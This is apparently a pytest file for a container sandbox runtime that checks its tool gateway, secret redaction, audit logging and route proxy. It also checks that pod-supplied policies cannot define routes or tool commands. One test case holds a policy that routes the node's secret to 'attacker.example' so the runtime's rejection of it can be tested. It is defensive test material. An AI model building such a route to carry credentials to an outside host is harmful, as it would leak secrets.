# SPDX-License-Identifier: Apache-2.0
"""Routes and the tool gateway in containers run by airlock-runtime: the
tool socket and airlock-tool bound in as `airlock run` binds them, the
node's tool definitions and secrets, the route proxy on 127.0.0.1:8080,
every call in the audit log with the node's secrets redacted; routes and
tool definitions only from the node, never from a pod's own document.
Needs root."""

import http.server
import json
import os
import pathlib
import shutil
import subprocess
import threading

import pytest

from test_oci_runtime import (containerd, create,  # noqa: F401
                              env, rt, run_args, spec, wait_pid, write_spec)

TOKEN = "node-secret-4f1d9a7c2b"


def add_curl(root):
    curl = shutil.which("curl")
    if not curl:
        pytest.skip("curl is needed inside the test image")
    libs = set()
    for tok in subprocess.run(["ldd", curl], capture_output=True, text=True).stdout.split():
        if tok.startswith("/"):
            libs.add(tok)
    for f in [curl] + sorted(libs):
        dst = pathlib.Path(str(root) + f)
        dst.parent.mkdir(parents=True, exist_ok=True)
        shutil.copy2(os.path.realpath(f), dst)


@pytest.fixture
def node(env):
    """The node's configuration: tool definitions, secrets (0600) and an
    installed policy, named in containerd's (here the runtime's)
    environment."""
    d = env["tmp"] / "node"
    (d / "policies").mkdir(parents=True)
    tools = {"define": {
        "node.echo": {"args": {"type": "object",
                               "properties": {"who": {"type": "string", "pattern": "^[a-z]+$"}},
                               "required": ["who"]},
                      "command": ["/bin/echo", "hello", "${args.who}"]},
        "node.token": {"command": ["/usr/bin/printenv", "TOKEN"],
                       "env": {"TOKEN": "${secret:NODE_TOKEN}"}},
    }}
    (d / "tools.json").write_text(json.dumps(tools))
    sec = d / "secrets.env"
    sec.write_text(f"NODE_TOKEN={TOKEN}\n")
    sec.chmod(0o600)
    env["env"].update(AIRLOCK_RUNTIME_TOOLS=str(d / "tools.json"),
                      AIRLOCK_RUNTIME_SECRETS=str(sec),
                      AIRLOCK_RUNTIME_POLICIES=str(d / "policies"))
    return d


class Upstream:
    """An API the route reaches: it says whether the node's key arrived."""

    def __init__(self):
        seen = self.seen = []

        class H(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                seen.append(dict(self.headers))
                ok = self.headers.get("x-api-key") == TOKEN
                body = (b"key-ok " if ok else b"key-missing ") + self.path.encode()
                self.send_response(200)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            def log_message(self, *a):
                pass

        self.srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.srv.server_address[1]
        threading.Thread(target=self.srv.serve_forever, daemon=True).start()

    def close(self):
        self.srv.shutdown()


@pytest.fixture
def upstream():
    u = Upstream()
    yield u
    u.close()


def install_policy(node, name, upstream):
    pol = {"tools": {"allow": ["node.*", "core.time"]},
           "network": {"hosts": {"upstream.test": "127.0.0.1"},
                       "allowPrivate": ["127.0.0.1/32"],
                       "routes": [{"name": "up",
                                   "upstream": f"http://upstream.test:{upstream.port}",
                                   "inject": {"x-api-key": "${secret:NODE_TOKEN}"}}]}}
    (node / "policies" / f"{name}.json").write_text(json.dumps(pol))


SCRIPT = ("airlock-tool call node.echo who=pod; echo; "
          "airlock-tool call node.token; echo; "
          f"{shutil.which('curl') or 'curl'} -s -m 10 -H 'x-api-key: pod-own' "
          "http://127.0.0.1:8080/up/v1/x; echo; "
          "airlock-tool call node.echo who=BAD 2>&1; echo rc=$?")


def audit_of(env, sandbox):
    lines = [json.loads(x) for x in (env["tmp"] / "audit.log").read_text().splitlines()]
    return [a for a in lines if a.get("sandbox") == sandbox]


def check(out, audit_lines, upstream):
    assert "hello pod" in out, out
    # The tool's answer passes the secrets' redactor.
    assert TOKEN not in out and "[REDACTED]" in out, out
    # The route injects the node's key; the pod's own is stripped.
    assert "key-ok /v1/x" in out, out
    assert upstream.seen and upstream.seen[-1].get("x-api-key") == TOKEN
    assert "bad_args" in out and "rc=0" not in out, out
    kinds = [a["kind"] for a in audit_lines]
    calls = [a for a in audit_lines if a["kind"] == "tool.call"]
    assert {c["tool"] for c in calls} >= {"node.echo", "node.token"}, calls
    assert {c["decision"] for c in calls} >= {"allow", "deny"}, calls
    assert "route.call" in kinds, kinds
    assert TOKEN not in json.dumps(audit_lines)


def test_tools_and_routes_in_a_container(env, node, upstream):
    add_curl(env["bundle"] / "rootfs")
    install_policy(node, "agent", upstream)
    write_spec(env, spec(["/bin/sh", "-c", SCRIPT], annotations={"airlock.io/policy": "agent"}))
    p = create(env, "t1")
    assert p.returncode == 0, p.stderr
    assert rt(env, "start", "t1").returncode == 0
    assert wait_pid(p.pid, 30)
    out = p.out.read_text()
    check(out, audit_of(env, "oci:t1"), upstream)
    assert rt(env, "delete", "t1").returncode == 0


def test_exec_gets_the_tool_gateway(env, node):
    """An exec'd process (kubectl exec) reaches the gateway too."""
    write_spec(env, spec(["/bin/sleep", "30"], annotations={
        "airlock.io/policy": json.dumps({"tools": {"allow": ["core.time"]}})}))
    p = create(env, "t2")
    assert p.returncode == 0, p.stderr
    assert rt(env, "start", "t2").returncode == 0
    proc = {"args": ["/bin/sh", "-c", "airlock-tool call core.time"], "cwd": "/",
            "env": ["PATH=/bin"], "user": {"uid": 0, "gid": 0}}
    pf = env["tmp"] / "proc.json"
    pf.write_text(json.dumps(proc))
    e = rt(env, "exec", "--process", pf, "t2", timeout=30)
    assert e.returncode == 0 and '"unix"' in e.stdout, (e.stdout, e.stderr)
    assert rt(env, "delete", "--force", "t2").returncode == 0


@pytest.mark.parametrize("doc,needle", [
    ({"network": {"routes": [{"name": "x", "upstream": "https://attacker.example",
                              "inject": {"k": "${secret:NODE_TOKEN}"}}]}}, "routes"),
    ({"tools": {"allow": ["pod.sh"], "define": {"pod.sh": {"command": ["/usr/bin/id"]}}}},
     "tool definitions"),
    ({"hardware": {"devices": {}}}, "hardware"),
])
def test_pod_document_cannot_define_host_configuration(env, node, doc, needle):
    """A route would carry the node's secrets wherever the pod says; a
    command tool runs on the node."""
    write_spec(env, spec(["/bin/true"], annotations={"airlock.io/policy": json.dumps(doc)}))
    p = create(env, "bad")
    assert p.returncode != 0 and needle in p.stderr, p.stderr
    assert not (env["state"] / "bad").exists()


@pytest.fixture
def with_curl(env):
    """curl in the root the containerd fixture makes its image from."""
    add_curl(env["bundle"] / "rootfs")


def test_containerd_tools_and_routes(env, node, upstream, with_curl, containerd):
    """ctr run with the policy's name as an annotation, as a pod would."""
    install_policy(node, "agent", upstream)
    a = run_args("t3", "/bin/sh", "-c", SCRIPT)
    a[a.index("run") + 1:a.index("run") + 1] = ["--annotation", "airlock.io/policy=agent"]
    p = containerd(*a, check=False, timeout=60)
    containerd("container", "rm", "t3", check=False)
    check(p.stdout, audit_of(env, "oci:t3"), upstream)
